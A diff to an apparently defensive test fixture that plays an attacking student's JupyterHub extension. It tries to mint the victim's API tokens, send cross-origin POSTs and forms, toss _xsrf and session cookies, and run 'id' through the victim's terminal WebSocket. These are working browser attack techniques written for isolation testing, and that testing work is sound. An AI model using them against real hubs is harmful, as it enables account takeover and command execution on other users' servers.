@@ -1,6 +1,6 @@
 """A server extension of a student who attacks: /user/NAME/evil is a page that tries all that a script can.
 
-A test copies this file into the student's home folder, where it is loaded like any extension of the student's own.
+A test copies this file into the student's home folder, where it is loaded like any extension of the student.
 The page gets the hub's address and the victim's server in its query. For each way, it writes what it got.
 """
 
@@ -23,10 +23,12 @@ async function look(address, into) {  // the document of another page, in a wind
   throw new Error("it did not open");
 }
 const popup = (address) => window.open(address);
-const frame = (address) => Object.assign(document.body.appendChild(document.createElement("iframe")), {src: address});
+const add = (name, about) => Object.assign(document.body.appendChild(document.createElement(name)), about);
+const frame = (address) => add("iframe", {src: address});
 async function token(page) {
   const {xsrf_token: xsrf, user} = page.jhdata, body = JSON.stringify(note);
-  const said = await page.fetch(`/hub/api/users/${user}/tokens`, {method: "POST", headers: headers(xsrf), body});
+  const options = {method: "POST", headers: headers(xsrf), body};
+  const said = await page.fetch(`/hub/api/users/${user}/tokens`, options);
   return said.status + " " + ((await said.json()).token ?? "");
 }
 async function files(page) {
@@ -39,12 +41,12 @@ async function read(address) {
   return said.status + " " + (await said.text()).length;
 }
 async function write(address, type) {
-  const said = await fetch(address, {method: "POST", body: JSON.stringify(note), headers: {"Content-Type": type}, ...send});
+  const body = JSON.stringify(note), headers = {"Content-Type": type};
+  const said = await fetch(address, {method: "POST", body, headers, ...send});
   return said.status + " " + (await said.text());
 }
 async function form(address) {  // a form needs no permission of the browser
-  const sent = document.body.appendChild(document.createElement("form"));
-  Object.assign(sent, {method: "POST", action: address, enctype: "text/plain", target: "_blank"});
+  const sent = add("form", {method: "POST", action: address, enctype: "text/plain", target: "_blank"});
   sent.innerHTML = `<input name='{"note":"stolen","x":"' value='"}'>`;
   sent.submit();
   await wait(1500);
@@ -53,6 +55,16 @@ async function form(address) {  // a form needs no permission of the browser
 async function cookie(name) {  // a cookie for all names below the hub's
   document.cookie = `${name}=tossed; domain=${new URL(hub).hostname}; path=/`;
   return document.cookie.includes("tossed") ? "set" : "";
+}
+function socket(address) {  // a terminal of the victim, which is open in another page
+  return new Promise((done, fail) => {
+    const there = new WebSocket(address.replace(/^http/, "ws"));
+    there.onopen = () => there.send(JSON.stringify(["stdin", "id\\n"]));
+    let heard = "";
+    there.onmessage = ({data}) => { heard += data; if (heard.includes("uid=")) done(heard); };
+    there.onerror = () => fail(new Error("no connection"));
+    setTimeout(() => fail(new Error("nothing heard: " + heard)), 10000);
+  });
 }
 async function pull(address) {  // what a link to nbgitpuller brings into the folders of whoever opens it
   window.open(address);
@@ -74,6 +86,8 @@ const ways = {
   "form, server": () => form(own + "api/terminals"),
   "cookie, xsrf": () => cookie("_xsrf"),
   "cookie, session": () => cookie("jupyterhub-session-id"),
+  "socket, server": () => socket(own + "terminals/websocket/1"),
+  "window, hub at this name": async () => token(await look("/hub/token", popup)),
   "link, pull": () => pull(asked.get("pull")),
 };
 document.querySelector("button").onclick = async () => {
